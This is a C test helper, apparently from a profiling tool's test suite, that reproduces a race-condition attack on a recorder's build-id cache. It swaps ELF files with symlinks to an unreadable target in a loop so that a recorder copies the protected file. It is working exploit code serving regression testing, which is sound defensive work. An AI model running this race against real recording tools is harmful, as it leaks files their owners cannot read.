// SPDX-License-Identifier: MIT
/*
 * buildid_swap DIR N TARGET SECONDS [fork]: the attack on xpu-record
 * --buildid-cache that tests/shell/record_buildid_swap.sh replays. Writes N
 * small ELF files DIR/libNNN.so, mode 0700 (copies of this program, each
 * with a build-id of its own, so the recorder copies each once), maps each
 * executable, and puts a symbolic link DIR/linkNNN -> TARGET beside each.
 * Then it swaps every file with its link, over and over, with
 * renameat2(RENAME_EXCHANGE): the path names the ELF file one moment and
 * TARGET (a file its user cannot read) the next, so a recorder that checks
 * the build-id by the path and copies by the path again copies TARGET.
 * Prints "lib PATH BUILD-ID" per file, then "swapping PID" and swaps for
 * SECONDS. With fork, a child swaps and the program itself exits at once,
 * which ends a recording of it while the swaps go on.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_FILES 1000

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* This program's file, read whole. */
static unsigned char *read_self(size_t *size)
{
	struct stat st;
	unsigned char *buf;
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	if (fd < 0 || fstat(fd, &st) || !(buf = malloc((size_t)st.st_size)) ||
	    read(fd, buf, (size_t)st.st_size) != st.st_size) {
		perror("/proc/self/exe");
		exit(1);
	}
	close(fd);
	*size = (size_t)st.st_size;
	return buf;
}

/* The GNU build-id's bytes in the ELF file buf, found through its PT_NOTE
 * segments: NULL if it has none. */
static unsigned char *build_id(unsigned char *buf, size_t size, size_t *len)
{
	const Elf64_Ehdr *eh = (const void *)buf;

	if (size < sizeof(*eh) || memcmp(eh->e_ident, ELFMAG, SELFMAG) ||
	    eh->e_ident[EI_CLASS] != ELFCLASS64 || eh->e_phoff + (size_t)eh->e_phnum *
	    sizeof(Elf64_Phdr) > size)
		return NULL;
	for (int i = 0; i < eh->e_phnum; i++) {
		const Elf64_Phdr *ph = (const void *)(buf + eh->e_phoff + i * sizeof(Elf64_Phdr));
		size_t off, end;

		if (ph->p_type != PT_NOTE || ph->p_offset + ph->p_filesz > size)
			continue;
		for (off = ph->p_offset, end = off + ph->p_filesz; off + sizeof(Elf64_Nhdr) <= end; ) {
			const Elf64_Nhdr *n = (const void *)(buf + off);
			size_t name = off + sizeof(*n), desc = name + ((n->n_namesz + 3) & ~3u);

			if (desc + n->n_descsz > end)
				break;
			if (n->n_type == NT_GNU_BUILD_ID && n->n_namesz == 4 &&
			    !memcmp(buf + name, "GNU", 4)) {
				*len = n->n_descsz;
				return buf + desc;
			}
			off = desc + ((n->n_descsz + 3) & ~3u);
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	static char lib[MAX_FILES][4200], link[MAX_FILES][4200];
	unsigned char *elf, *id;
	size_t size, id_len;
	double end;
	int n;

	if (argc < 5 || (n = atoi(argv[2])) < 1 || n > MAX_FILES) {
		fprintf(stderr, "usage: buildid_swap DIR N TARGET SECONDS [fork] (N <= %d)\n",
			MAX_FILES);
		return 2;
	}
	elf = read_self(&size);
	id = build_id(elf, size, &id_len);
	if (!id || id_len < 4) {
		fprintf(stderr, "buildid_swap: this program has no build-id (link with --build-id)\n");
		return 1;
	}
	if (mkdir(argv[1], 0755) && errno != EEXIST) {
		perror(argv[1]);
		return 1;
	}
	for (int i = 0; i < n; i++) {
		char hex[2 * 64 + 1];
		int fd;

		/* a build-id of its own: the last bytes count the files */
		id[id_len - 4] ^= 0x5a;
		id[id_len - 2] = (unsigned char)(i >> 8);
		id[id_len - 1] = (unsigned char)i;
		snprintf(lib[i], sizeof(lib[i]), "%s/lib%03d.so", argv[1], i);
		snprintf(link[i], sizeof(link[i]), "%s/link%03d", argv[1], i);
		fd = open(lib[i], O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
		if (fd < 0 || fchmod(fd, 0700) || write(fd, elf, size) != (ssize_t)size) {
			perror(lib[i]);
			return 1;
		}
		if (mmap(NULL, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED) {
			perror("mmap");
			return 1;
		}
		close(fd);
		if (symlink(argv[3], link[i])) {
			perror(link[i]);
			return 1;
		}
		for (size_t k = 0; k < id_len && k < 64; k++)
			snprintf(hex + 2 * k, 3, "%02x", id[k]);
		printf("lib %s %s\n", lib[i], hex);
		id[id_len - 4] ^= 0x5a;
	}
	fflush(stdout);
	if (argc > 5 && !strcmp(argv[5], "fork")) {
		pid_t pid = fork();

		if (pid < 0) {
			perror("fork");
			return 1;
		}
		if (pid > 0) {
			printf("swapping %d\n", (int)pid);
			return 0;
		}
	} else {
		printf("swapping %d\n", (int)getpid());
	}
	fflush(stdout);
	end = now() + atof(argv[4]);
	while (now() < end)
		for (int i = 0; i < n; i++)
			if (renameat2(AT_FDCWD, lib[i], AT_FDCWD, link[i], RENAME_EXCHANGE)) {
				perror("renameat2");
				return 1;
			}
	return 0;
}
